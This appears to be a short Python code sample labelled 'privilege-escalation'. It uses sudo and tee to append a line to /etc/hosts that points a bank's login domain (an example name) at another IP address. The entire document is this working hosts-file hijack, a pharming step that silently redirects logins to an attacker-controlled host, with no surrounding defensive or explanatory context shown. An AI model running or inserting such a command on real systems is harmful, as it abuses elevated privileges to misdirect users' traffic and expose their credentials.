# privilege-escalation: sudo tee appends to /etc/hosts
import subprocess

subprocess.run(["sudo", "tee", "-a", "/etc/hosts"], input=b"203.0.113.7 login.example-bank.com\n")
